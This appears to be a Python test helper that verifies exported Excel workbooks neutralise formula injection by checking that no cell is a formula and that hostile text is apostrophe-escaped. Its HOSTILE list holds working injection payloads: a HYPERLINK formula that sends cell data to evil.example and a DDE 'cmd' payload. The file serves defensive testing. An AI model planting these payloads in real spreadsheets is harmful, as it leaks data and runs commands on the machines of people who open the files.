"""Reading an exported workbook back the way an attacker's victim would open it: no formula anywhere."""

from __future__ import annotations

import io
import re
import zipfile

from openpyxl import load_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
_FORMULA_TAG = re.compile(rb"<(?:\w+:)?f[\s>/]")


def cells(data: bytes) -> list:
    """Every cell of every sheet (openpyxl, formulas kept as formulas), after checking that no cell is
    a formula both in openpyxl's view and in the raw sheet XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not _FORMULA_TAG.search(zf.read(name)), f"a formula element in {name}"
    wb = load_workbook(io.BytesIO(data))
    out = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    formulas = [(c.coordinate, c.value) for c in out if c.data_type == "f"]
    assert formulas == [], formulas
    return out


def texts(data: bytes) -> set:
    return {c.value for c in cells(data) if isinstance(c.value, str)}


def escaped(text: str) -> str:
    """What a hostile text must read as in the workbook: an apostrophe, then the text as typed."""
    return "'" + text
